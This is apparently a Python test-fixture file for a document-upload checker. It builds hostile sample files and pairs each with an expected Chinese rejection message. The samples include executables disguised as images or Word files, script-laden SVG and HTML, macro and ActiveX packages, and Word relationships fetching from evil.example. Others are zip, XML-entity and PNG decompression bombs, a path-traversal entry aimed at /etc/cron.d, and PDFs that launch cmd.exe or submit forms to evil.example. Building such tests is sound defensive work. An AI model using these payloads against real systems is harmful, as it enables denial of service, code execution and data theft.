"""Files that were made to do harm: which ones, under what name, and what is said of them."""

import io
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from tests.calls.drafted import WORD, docx, jpeg

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXECUTABLE = b"MZ\x90\x00" + b"\0" * 60 + b"PE\0\0" + b"\x90" * 400
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PAGE = b"<!doctype html><script>alert(document.cookie)</script>"
MACRO_TYPE = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml" PartName="/word/document.xml"/></Types>'
MB = 1024 * 1024


def zipped(parts: dict[str, bytes | str], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", kind) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return made.getvalue()


def package(**more: bytes | str) -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>", **more})


def related(kind: str, target: str) -> bytes:
    """A Word file that fetches something when it is opened."""
    relation = f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return docx(**{"word/_rels/document.xml.rels": f"<Relationships>{relation}</Relationships>"})


def lying_about_size() -> bytes:
    """The directory says a hundred bytes, and out come 80 MB."""
    data = bytearray(package(**{"word/media/big.bin": b"\0" * 80 * MB}))
    for sign, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.rindex(sign)
        while data[place:].find(b"word/media/big.bin") not in range(30, 60):
            place = data.rindex(sign, 0, place)
        data[place + offset : place + offset + 4] = struct.pack("<I", 100)
    return bytes(data)


def in_one_another(depth: int) -> bytes:
    data = package(**{"word/media/big.bin": b"\0" * 60 * MB})
    for _ in range(depth):
        data = package(**{"word/embeddings/inner.docx": data})
    return data


def many_entries() -> bytes:
    return package(**{f"word/media/{n}.xml": "" for n in range(5000)})


def overlapping() -> bytes:
    """The directory points at one part again and again."""
    data = package(**{"word/media/a.bin": b"\0" * MB})
    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        start = opened.start_dir
    entries, end = data[start : data.rindex(b"PK\x05\x06")], data[data.rindex(b"PK\x05\x06") :]
    times = 1500
    count = 3 * times
    return data[:start] + entries * times + end[:8] + struct.pack("<HHI", count, count, len(entries) * times) + end[16:]


def laughing() -> bytes:
    """Entities of entities, in letters that a search for them may not see."""
    entities = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    return docx(**{"word/header1.xml": f'<!DOCTYPE a [<!ENTITY a0 "ha">{entities}]><a>&a9;</a>'.encode("utf-16")})


def deep_markup() -> bytes:
    return docx(**{"word/header1.xml": f'<w:hdr xmlns:w="{WORD}">' + "<w:p>" * 200_000 + "</w:p>" * 200_000 + "</w:hdr>"})


def picture_bomb(side: int = 30_000) -> bytes:
    """A PNG of a few hundred kilobytes that fills gigabytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head, packer = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0), zlib.compressobj(9)
    body = b"".join(packer.compress(b"\0" * MB) for _ in range(200)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def dictionary(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})


def pdf(put=None, *, password: str = "") -> bytes:
    writer, made = PdfWriter(), io.BytesIO()
    page = writer.add_blank_page(200, 200)
    if put:
        put(writer, page)
    if password:
        writer.encrypt("", password)
    writer.write(made)
    return made.getvalue()


def linked(action: DictionaryObject):
    """A PDF with a button that covers the page, and something that happens when it is opened."""

    def put(writer, page):
        place = ArrayObject([FloatObject(n) for n in (0, 0, 200, 200)])
        note = dictionary(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=place, A=action, AA=dictionary(U=action))
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
        page[NameObject("/AA")] = dictionary(O=action)
        writer.root_object[NameObject("/OpenAction")] = action

    return put


def in_a_chain(writer, page):
    """The harm comes second, behind a harmless link."""
    launch = dictionary(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))
    link = dictionary(S=NameObject("/URI"), URI=TextStringObject("https://ok.example"), Next=ArrayObject([launch]))
    linked(link)(writer, page)


SCRIPT = dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
ELSEWHERE = dictionary(S=NameObject("/GoToR"), F=TextStringObject("//evil.example/share/a.pdf"))
LAUNCH = dictionary(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))
SENDING = dictionary(S=NameObject("/SubmitForm"), F=TextStringObject("http://evil.example"))


def with_files(writer, _page):
    writer.add_attachment("evil.exe", EXECUTABLE)


HARMFUL = {
    "empty": (b"", "空.pdf", "是空的"),
    "program": (EXECUTABLE, "程序.exe", "这里只收"),
    "program as a picture": (EXECUTABLE, "照片.jpg", "却不是这种文件"),
    "program as a text": (EXECUTABLE, "案例.docx", "却不是这种文件"),
    "SVG as a picture": (SVG, "图.png", "却不是这种文件"),
    "SVG": (SVG, "图.svg", "这里只收"),
    "page as a picture": (PAGE, "图.png", "却不是这种文件"),
    "page as a PDF": (PAGE, "文.pdf", "却不是这种文件"),
    "picture as a PDF": (jpeg(), "文.pdf", "却不是这种文件"),
    "PDF behind a page": (PAGE + pdf(), "文.pdf", "却不是这种文件"),
    "two endings": (docx(), "案例.docx.exe", "这里只收"),
    "macros renamed": (package(**{"word/vbaProject.bin": OLE}), "案例.docx", "宏"),
    "macros by the type": (zipped({"[Content_Types].xml": MACRO_TYPE, "word/document.xml": "<x/>"}), "案例.docx", "宏"),
    "macros by the name": (docx(), "案例.docm", "宏"),
    "program inside": (docx(**{"word/embeddings/oleObject1.bin": OLE + "\x01Ole10Native".encode("utf-16-le")}), "a.docx", "夹带"),
    "controls inside": (docx(**{"word/activeX/activeX1.xml": "<x/>"}), "a.docx", "宏"),
    "old Word inside": (OLE + b"\0" * 600, "旧.docx", "密码"),
    "template from elsewhere": (related("attachedTemplate", "http://evil.example/t.dotm"), "a.docx", "别处"),
    "picture from elsewhere": (related("image", "http://evil.example/seen.png"), "a.docx", "别处"),
    "frame from elsewhere": (related("frame", "file://evil.example/share"), "a.docx", "别处"),
    "object from elsewhere": (related("oleObject", "mhtml:http://evil.example!x"), "a.docx", "别处"),
    "bomb": (package(**{"word/media/big.bin": b"\0" * 130 * MB}), "大.docx", "太大"),
    "bomb that lies": (lying_about_size(), "大.docx", "没有收下"),
    "bomb in a file in a file": (in_one_another(2), "大.docx", "太大"),
    "files in files": (in_one_another(8), "大.docx", "太大"),
    "thousands of parts": (many_entries(), "大.docx", "太大"),
    "one part thousands of times": (overlapping(), "大.docx", "没有收下"),
    "entities": (laughing(), "大.docx", "没有收下"),
    "paths": (docx(**{"../../../etc/cron.d/x": "y"}), "路.docx", "打不开"),
    "picture bomb": (picture_bomb(), "大.png", "太大"),
    "locked PDF": (pdf(password="secret"), "锁.pdf", "密码"),
    "half a PDF": (pdf()[:120], "半.pdf", "打不开"),
    "half a Word file": (docx()[:-40], "半.docx", "没有收下"),
    "half a picture": (jpeg(400)[:400], "半.jpg", "打不开"),
    "only the head of a PNG": (b"\x89PNG\r\n\x1a\n", "半.png", "打不开"),
    "larger than is taken": (b"%PDF-1.7" + b"\0" * (10 * MB + 1), "大.pdf", "MB"),
}  # fmt: skip


CLEANED = {
    "script": pdf(linked(SCRIPT)),
    "launch": pdf(linked(LAUNCH)),
    "sends itself": pdf(linked(SENDING)),
    "opens a file elsewhere": pdf(linked(ELSEWHERE)),
    "second in a chain": pdf(in_a_chain),
    "files inside": pdf(with_files),
    "program behind the end": pdf() + EXECUTABLE,
    "page behind the end": pdf() + PAGE,
}
